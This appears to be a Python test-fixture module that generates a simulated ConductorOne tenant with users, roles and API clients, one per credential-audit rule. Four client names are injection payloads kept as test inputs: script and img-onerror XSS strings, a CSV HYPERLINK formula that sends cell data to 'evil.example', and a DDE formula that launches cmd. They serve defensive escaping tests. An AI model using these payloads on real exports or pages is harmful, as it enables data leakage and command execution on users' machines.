"""Data of the simulated ConductorOne tenant: a curated demo set and a seeded generator.

Everything is plain JSON in the vendor's shapes (SPEC:L25045 PersonalClient, SPEC:L42061 User,
SPEC:L25480 Role), so the simulator serves it unchanged and tests can compare the adapter's
output with exactly what was served. All times are relative to ``anchor`` (the demo's as-of), and
all randomness comes from ``random.Random(seed)``, so (seed, size, anchor) fixes every byte.

Curated set (``curated(anchor, seed)``): which record exercises which DESIGN.md rule, with the
default policy (T = anchor). Owners: alice, henry, gina, ivan, judy (Basic Users, active), bob
(Super Administrator), carol (DISABLED), dave (DELETED), erin (status ENABLED but directory
DISABLED), frank (6 unexpired clients), and a user id that does not exist ("ghost").

====  ==========================================  =====================================
rec   display name (owner)                        rule(s) it fails
====  ==========================================  =====================================
C01   clean: ci deploy (alice)                    none: passes every rule
C02   clean: ipv6 office (henry)                  none (IPv6 /56, 9 fractional digits)
C03   clean: fresh, unused (henry)                none (never used, but 3 d < 14 d grace)
C04   stale: old laptop (gina)                    stale (last use T-120 d)
C05   never used: forgotten script (henry)        never-used (created T-30 d)
C06   no expiry: permanent (alice)                no-expiry (expiresTime null)
C07   no expiry: field absent (gina)              no-expiry (expiresTime absent)
C08   long lifetime (henry)                       long-lifetime (410 d)
C09   expired key (gina)                          expired (T-5 d)
C10   expiring soon (alice)                       expiring-soon (T+7 d)
C11   no CIDR: null (gina)                        no-source-restriction
C12   no CIDR: absent (henry)                     no-source-restriction
C13   no CIDR: empty list (alice)                 no-source-restriction
C14   broad v4 /8 (ivan)                          broad-source-restriction (IPv4)
C15   broad v4 any (gina)                         broad-source-restriction (0.0.0.0/0)
C16   broad v6 /32 (ivan)                         broad-source-restriction (IPv6)
C17   broad v6 any (ivan)                         broad-source-restriction (::/0)
C18   full access: empty scopedRoles (ivan)       full-owner-access
C19   full access: null scopedRoles (judy)        full-owner-access
C20   admin full (bob)                            full-owner-access, privileged-access
C21   admin scoped to owner role (bob)            privileged-access
C22   admin scoped to viewer (bob)                none (scoped below the owner's power)
C23   disabled owner (carol)                      inactive-owner (disabled)
C24   deleted owner (dave)                        inactive-owner (deleted)
C25   directory-disabled owner (erin)             inactive-owner (disabled)
C26   owner that does not exist (ghost)           inactive-owner (not_found)
C27-32 frank key 1..6 (frank)                     too-many-per-owner (6 > 5 unexpired)
C33   frank expired key (frank)                   expired (not counted by too-many)
C34   soft-deleted key (judy)                     none: excluded, counted in coverage
C35   <script> payload (judy)                     none: markup must be escaped
C36   <img onerror> payload (ivan)                none: markup must be escaped
C37   =HYPERLINK(...) (judy)                      none: CSV formula must be neutralised
C38   @SUM(...) formula (judy)                    none: CSV formula must be neutralised
C39   unknown scoped role id (judy)               none: the id is kept and noted
====  ==========================================  =====================================

Fractional digits rotate 0, 3, 6, 9 over the records (record index modulo 4); C02 uses 9.
"""

from __future__ import annotations

import random
import string
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

JSON = dict[str, Any]
ABSENT: Any = object()  # a field the server leaves out (protojson omits empty fields)
_ALNUM = string.ascii_letters + string.digits
DAY = timedelta(days=1)

# Built-in roles: names from c1i cmd/auth_login_roles.go (conductorone.md §2.5). The name of the
# API-only "Read-Only to System Logs" role is not public; "system:api-logs-viewer" is ours.
BUILTIN_ROLES: tuple[tuple[str, str, bool], ...] = (
    ("system:owner", "Super Administrator", False),
    ("system:viewer", "Read-Only Administrator", False),
    ("system:user", "Basic User", False),
    ("system:application-admin", "Application Administrator", False),
    ("system:campaign-admin", "Campaign Administrator", False),
    ("system:api-logs-viewer", "Read-Only to System Logs", True),
)
CUSTOM_ROLES = ("custom:reports", "custom:helpdesk", "custom:auditors", "custom:onboarding")


@dataclass
class Dataset:
    """One tenant's state: roles, users (by id) and personal clients in server order."""

    host: str
    roles: list[JSON]
    users: dict[str, JSON]
    clients: list[JSON]
    role_ids: dict[str, str]  # role name -> id
    limited_user_id: str
    admin_user_id: str
    malformed: set[int] = field(default_factory=set)  # indexes into clients


def ksuid(rng: random.Random) -> str:
    """27 alphanumerics: the server's id format (c1i roleIDPattern, conductorone.md §2.5)."""
    return "".join(rng.choice(_ALNUM) for _ in range(27))


def fmt(when: datetime, digits: int, nanos: int = 0) -> str:
    """Protojson form: UTC, ``Z``, 0/3/6/9 fractional digits (conductorone.md §2.1)."""
    base = when.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S")
    if digits == 0:
        return base + "Z"
    total = f"{when.microsecond:06d}{nanos % 1000:03d}"
    return f"{base}.{total[:digits]}Z"


def _role(rng: random.Random, anchor: datetime, name: str, display: str, api_only: bool) -> JSON:
    builtin = name.startswith("system:")
    return {
        "id": ksuid(rng),
        "name": name,
        "displayName": display,
        "permissions": [],
        "serviceRoles": [f"role/c1.api.{name.replace(':', '.')}"],
        "systemBuiltin": builtin,
        "systemApiOnly": api_only,
        "createdAt": fmt(anchor - 900 * DAY, 0),
        "updatedAt": fmt(anchor - 900 * DAY, 0),
        "deletedAt": None,
    }


def make_roles(rng: random.Random, anchor: datetime) -> tuple[list[JSON], dict[str, str]]:
    roles = [_role(rng, anchor, n, d, api) for n, d, api in BUILTIN_ROLES]
    roles += [_role(rng, anchor, n, n.split(":")[1].title(), False) for n in CUSTOM_ROLES]
    return roles, {r["name"]: r["id"] for r in roles}


def make_user(
    uid: str,
    name: str,
    anchor: datetime,
    role_ids: list[str],
    *,
    status: str = "ENABLED",
    directory_status: str = "ENABLED",
    user_type: str = "USER_TYPE_HUMAN",
) -> JSON:
    """A ``User`` (SPEC:L42061) with the fields an audit reads, the rest omitted."""
    login = name.lower().replace(" ", ".")
    return {
        "id": uid,
        "displayName": name,
        "email": f"{login}@example.com",
        "emails": [f"{login}@example.com"],
        "username": login,
        "status": status,
        "directoryStatus": directory_status,
        "type": user_type,
        "origin": "USER_ORIGIN_DIRECTORY",
        "roleIds": role_ids,
        "createdAt": fmt(anchor - 800 * DAY, 3),
        "updatedAt": fmt(anchor - 20 * DAY, 3),
        "deletedAt": fmt(anchor - 10 * DAY, 0) if status == "DELETED" else None,
    }


def make_client(
    cid: str,
    host: str,
    name: str,
    owner: str,
    *,
    created: datetime,
    last_used: datetime | None,
    expires: Any,
    cidrs: Any,
    scoped: Any,
    digits: int,
    nanos: int = 0,
    deleted: datetime | None = None,
) -> JSON:
    """A ``PersonalClient`` (SPEC:L25045). ``ABSENT`` leaves a field out, as protojson does."""

    def ts(value: datetime | None) -> str | None:
        return None if value is None else fmt(value, digits, nanos)

    record: JSON = {
        "id": cid,
        "clientId": f"{cid}@{host}/pcc",
        "displayName": name,
        "userId": owner,
        "scopedRoles": scoped,
        "allowSourceCidr": cidrs,
        "expiresTime": expires if expires is ABSENT else ts(expires),
        "lastUsedAt": ts(last_used),
        "createdAt": ts(created),
        "updatedAt": ts(created),
        "deletedAt": ts(deleted),
    }
    return {k: v for k, v in record.items() if v is not ABSENT}


def curated(anchor: datetime, seed: int = 0, host: str = "acme.conductor.one") -> Dataset:
    """The demo set; see the module docstring for which record exercises which rule."""
    rng = random.Random(f"c1-curated-{seed}")  # noqa: S311 - simulation, not security
    t = anchor
    roles, rid = make_roles(rng, anchor)
    basic, viewer, owner = [rid["system:user"]], [rid["system:viewer"]], [rid["system:owner"]]
    people = {
        "alice": ("Alice Basic", basic, "ENABLED", "ENABLED"),
        "bob": ("Bob Admin", [*owner, *basic], "ENABLED", "ENABLED"),
        "carol": ("Carol Disabled", basic, "DISABLED", "DISABLED"),
        "dave": ("Dave Deleted", basic, "DELETED", "DELETED"),
        "erin": ("Erin Leaver", basic, "ENABLED", "DISABLED"),
        "frank": ("Frank Many", basic, "ENABLED", "ENABLED"),
        "gina": ("Gina Viewer", [*viewer, rid["custom:reports"]], "ENABLED", "ENABLED"),
        "henry": ("Henry Local", basic, "ENABLED", "UNKNOWN"),
        "ivan": ("Ivan Basic", basic, "ENABLED", "ENABLED"),
        "judy": ("Judy Basic", basic, "ENABLED", "ENABLED"),
        "auditor": ("credaudit scanner", owner, "ENABLED", "ENABLED"),
    }
    ids = {key: ksuid(rng) for key in people}
    users = {
        ids[k]: make_user(ids[k], n, anchor, list(r), status=s, directory_status=d)
        for k, (n, r, s, d) in people.items()
    }
    users[ids["auditor"]]["type"] = "USER_TYPE_SERVICE"
    ids["ghost"] = ksuid(rng)  # never added to users: the API does not know this owner
    clean: JSON = {
        "created": t - 60 * DAY,
        "last_used": t - DAY,
        "expires": t + 60 * DAY,
        "cidrs": ["10.20.30.0/24"],
        "scoped": basic,
    }
    specs: list[tuple[str, str, JSON]] = [
        ("clean: ci deploy", "alice", {}),
        ("clean: ipv6 office", "henry", {"cidrs": ["2001:db8:1200::/56"], "scoped": viewer}),
        ("clean: fresh, unused", "henry", {"created": t - 3 * DAY, "last_used": None}),
        (
            "stale: old laptop",
            "gina",
            {
                "last_used": t - 120 * DAY,
                "created": t - 200 * DAY,
                "expires": t + 100 * DAY,
                "scoped": viewer,
            },
        ),
        ("never used: forgotten script", "henry", {"created": t - 30 * DAY, "last_used": None}),
        ("no expiry: permanent", "alice", {"expires": None}),
        ("no expiry: field absent", "gina", {"expires": ABSENT, "scoped": viewer}),
        ("long lifetime", "henry", {"created": t - 10 * DAY, "expires": t + 400 * DAY}),
        (
            "expired key",
            "gina",
            {"created": t - 95 * DAY, "expires": t - 5 * DAY, "scoped": viewer},
        ),
        ("expiring soon", "alice", {"created": t - 83 * DAY, "expires": t + 7 * DAY}),
        ("no CIDR: null", "gina", {"cidrs": None, "scoped": viewer}),
        ("no CIDR: absent", "henry", {"cidrs": ABSENT}),
        ("no CIDR: empty list", "alice", {"cidrs": []}),
        ("broad v4 /8", "ivan", {"cidrs": ["10.0.0.0/8"]}),
        ("broad v4 any", "gina", {"cidrs": ["0.0.0.0/0", "192.168.1.0/24"], "scoped": viewer}),
        ("broad v6 /32", "ivan", {"cidrs": ["2001:db8::/32"]}),
        ("broad v6 any", "ivan", {"cidrs": ["::/0"]}),
        ("full access: empty scopedRoles", "ivan", {"scoped": []}),
        ("full access: null scopedRoles", "judy", {"scoped": None}),
        ("admin full", "bob", {"scoped": []}),
        ("admin scoped to owner role", "bob", {"scoped": owner}),
        ("admin scoped to viewer", "bob", {"scoped": viewer}),
        ("disabled owner", "carol", {}),
        ("deleted owner", "dave", {}),
        ("directory-disabled owner", "erin", {}),
        ("owner that does not exist", "ghost", {}),
        *[(f"frank key {i}", "frank", {}) for i in range(1, 7)],
        ("frank expired key", "frank", {"created": t - 40 * DAY, "expires": t - 2 * DAY}),
        ("soft-deleted key", "judy", {"deleted": t - 2 * DAY}),
        ('<script>alert("xss")</script>', "judy", {}),
        ("<img src=x onerror=alert(1)>", "ivan", {}),
        ('=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', "judy", {}),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "judy", {}),
        ("unknown scoped role id", "judy", {"scoped": [basic[0], "UnknownRoleIdNotInCatalog00"]}),
    ]
    clients = []
    for index, (name, who, overrides) in enumerate(specs):
        # A per-record shift (at most ~11 h, far from every rule boundary) gives real fractions.
        shift = timedelta(seconds=index * 997, microseconds=index * 12_345)
        fields = {
            k: v - shift if isinstance(v, datetime) else v
            for k, v in {**clean, **overrides}.items()
        }
        digits = 9 if index == 1 else (0, 3, 6, 9)[index % 4]
        cid = f"c{index + 1:02d}-{ADJECTIVES[index % len(ADJECTIVES)]}-{10000 + index * 7}"
        clients.append(
            make_client(cid, host, name, ids[who], digits=digits, nanos=123 + index, **fields)
        )
    return Dataset(host, roles, users, clients, rid, ids["alice"], ids["auditor"])


ADJECTIVES = [
    "strange",
    "brave",
    "calm",
    "eager",
    "fancy",
    "gentle",
    "happy",
    "jolly",
    "kind",
    "lively",
    "merry",
    "nice",
    "proud",
    "silly",
    "witty",
    "zany",
    "bold",
    "clever",
    "quiet",
    "rapid",
    "sunny",
    "swift",
    "tidy",
    "vivid",
    "wise",
    "young",
    "amber",
    "azure",
]
ANIMALS = [
    "hydra",
    "whale",
    "otter",
    "falcon",
    "badger",
    "heron",
    "lynx",
    "marten",
    "panda",
    "quokka",
    "raven",
    "salmon",
    "tapir",
    "viper",
    "walrus",
    "yak",
    "zebra",
    "bison",
    "cobra",
    "dingo",
    "egret",
    "ferret",
    "gecko",
    "ibis",
    "jackal",
    "koala",
    "lemur",
    "moose",
    "newt",
]
